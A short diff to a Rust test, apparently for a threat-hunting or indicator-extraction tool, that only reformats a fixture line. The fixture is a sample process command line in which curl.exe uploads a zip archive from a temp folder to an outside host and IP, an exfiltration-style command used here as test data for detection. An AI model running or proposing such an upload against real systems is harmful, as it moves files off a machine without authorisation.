@@ -116,7 +116,9 @@ fn settings_reach_queries_tables_and_lookups() {
     let encoded = process.pivot(&mut qp).lookup("extract_iocs").unwrap();
     assert_eq!(encoded.height(), 0, "{encoded}");
     let upload: Entity = Process {
-        command_line: Some("curl.exe -T c:\\temp\\q.zip https://files.quietbarn.io/u 198.51.100.7".into()),
+        command_line: Some(
+            "curl.exe -T c:\\temp\\q.zip https://files.quietbarn.io/u 198.51.100.7".into(),
+        ),
         ..Default::default()
     }
     .into();
